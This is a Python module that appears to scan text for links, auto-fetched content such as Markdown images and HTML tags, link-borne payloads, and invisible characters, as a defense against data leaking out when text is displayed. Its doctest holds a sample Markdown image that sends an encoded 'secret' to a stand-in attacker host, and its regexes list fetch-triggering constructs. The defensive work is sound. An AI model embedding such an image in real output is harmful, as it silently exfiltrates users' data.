r"""What a text reaches when it is shown: links, and what a program fetches by itself.

A picture in Markdown or HTML is fetched by whoever shows the text, without a click, so its address can carry data out; chat services also
fetch every link to show what is behind it ("unfurling").  Nothing here decides that a text is safe: it names hosts, and says why a text is
not plain.

>>> found = links("see https://docs.example.com/x, ![](https://evil.example/?d=c2VjcmV0) and www.other.example")
>>> found.hosts, found.fetched
(('docs.example.com', 'evil.example', 'www.other.example'), True)
>>> links("a plain text with 3.14 and e.g. this").hosts
()
"""

from __future__ import annotations

import re
import unicodedata
from typing import Final, NamedTuple

MOST: Final = 50_000
_URL: Final = re.compile(
    r"(?:\b[a-z][a-z0-9+.-]{0,20}:)?//([^\s/?#<>\"'()\[\]|\\]{1,253})([^\s<>\"')\]|]{0,4096})|\b(www\.[a-z0-9.-]{1,250})", re.IGNORECASE
)
_FETCHED: Final = re.compile(
    r"!\[|<\s*(?:img|image|picture|video|audio|source|iframe|embed|object|link|script|style|svg|base|meta|input|body|table|td)\b"
    r"|\bsrc(?:set)?\s*=|\burl\s*\(|@import\b",
    re.IGNORECASE,
)
_LONG: Final = re.compile(r"[A-Za-z0-9+/=_%-]{40,}")


class Links(NamedTuple):
    """What was found.

    hosts: of all links, in order.  fetched: something is fetched when the text is shown.  loaded: a link carries much besides its place.  hidden:
    the text holds characters that nobody sees.
    """

    hosts: tuple[str, ...]
    fetched: bool
    loaded: bool
    hidden: bool


def links(text: str) -> Links:
    """What is in the first 50,000 characters; a longer text counts as fetching, because its rest was not looked at."""
    seen = plain(text[:MOST])
    hosts: dict[str, None] = {}
    loaded = False
    for found in _URL.finditer(seen):
        hosts[(found[1] or found[3]).rpartition("@")[2].lower()[:80].rstrip(".,;:!")] = None
        loaded = loaded or ("?" in (found[2] or "") and len(found[2]) > 60) or _LONG.search(found[2] or "") is not None
    return Links(tuple(hosts), _FETCHED.search(seen) is not None or len(text) > MOST, loaded, hidden(text[:MOST]))


def plain(text: str) -> str:
    """The text as a program that is generous with look-alikes may read it: compatibility forms folded (NFKC), invisible characters dropped."""
    if text.isascii():
        return text
    return "".join(c for c in unicodedata.normalize("NFKC", text) if unicodedata.category(c) != "Cf" and c != "\ufe0f")


def hidden(text: str) -> bool:
    """Whether it holds characters that nobody sees, or that reorder what is seen: format characters other than the joiners of emoji."""
    return not text.isascii() and any(unicodedata.category(c) == "Cf" and c not in "\u200d\u200c" for c in text)
